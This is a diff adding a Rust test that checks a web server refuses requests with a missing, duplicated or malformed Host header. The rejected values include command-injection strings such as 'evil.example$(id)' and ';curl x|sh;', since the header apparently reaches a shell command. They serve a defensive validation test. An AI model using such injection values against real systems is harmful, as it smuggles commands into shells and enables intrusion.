@@ -126,6 +126,37 @@ async fn p06_other_answers_may_load_nothing() {
     assert_common(&preflight, "preflight");
 }
 
+/// RFC 9112, section 3.2. The host ends up in links and in a command for a shell.
+#[tokio::test]
+async fn a_request_names_one_host_or_is_refused() {
+    let app = TestApp::start().await;
+    for path in ["/sign-in", "/api/v1/whoami", "/healthz", "/favicon.svg"] {
+        let none = app.get(path).without_host().send().await;
+        assert_eq!(none.status, 400, "{path} without a host");
+        let two = app.get(path).header("host", "keys.test").send().await;
+        assert_eq!(two.status, 400, "{path} with two hosts");
+        for host in [
+            "evil.example$(id)",
+            "a b",
+            "x/path",
+            "user@evil",
+            "a'b",
+            ";curl x|sh;",
+            "",
+        ] {
+            let ask = app.get(path).without_host().header("host", host);
+            assert_eq!(ask.send().await.status, 400, "{path} {host}");
+        }
+    }
+    let api = app.get("/api/v1/whoami").without_host().send().await;
+    assert_eq!(api.header("content-type"), "application/problem+json");
+    let health = app
+        .get("/healthz")
+        .without_host()
+        .header("host", "[::1]:3000");
+    assert_eq!(health.send().await.status, 200);
+}
+
 #[tokio::test]
 async fn p06_https_is_kept_where_the_public_url_has_it() {
     let app = TestApp::start_with(&[("LATCHKEY_PUBLIC_URL", "https://keys.example")]).await;
